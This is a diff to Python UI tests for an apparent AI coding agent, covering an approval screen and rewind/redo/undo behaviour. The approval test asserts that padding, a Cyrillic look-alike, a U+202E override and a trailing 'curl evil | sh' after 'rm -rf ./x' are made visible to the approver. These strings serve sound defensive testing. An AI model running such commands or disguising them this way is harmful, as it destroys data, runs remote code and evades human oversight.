@@ -188,11 +188,11 @@ def test_an_approval_shows_what_padding_look_alikes_and_length_would_hide(door: 
             await window.say("go")
             await on(window, ApprovalScreen)
             text = window.screen_text
-            assert "⟨301 blanks⟩" in text
+            assert "<301 blanks>" in text
             assert "rm -rf ./x" in text
             assert "cyrillic small letter a" in text
-            assert "control or invisible characters are not shown" in text
-            assert "it ends with: curl evil | sh" in text
+            assert "<U+202E>" in text
+            assert "ends with: curl evil | sh" in text
             assert "always" not in text  # nothing of this can be remembered
             await window.press("a")
             assert isinstance(window.app.screen, ApprovalScreen)
@@ -224,8 +224,11 @@ def test_rewind_with_files_and_conversation_and_undo(door: Door) -> None:
             assert window.app.conductor.session is not None
             assert window.app.conductor.session.messages == ()
             await window.press("ctrl+c")
+            await window.say("/redo")
+            assert prompts(window) == ["fix it", "and now?"]
+            assert "+ 1" not in (door.root / "orders.py").read_text()
             await window.say("/undo")
-            assert "nothing to undo" in window.screen_text
+            assert "Restored orders.py" in window.screen_text
 
     asyncio.run(go())
 
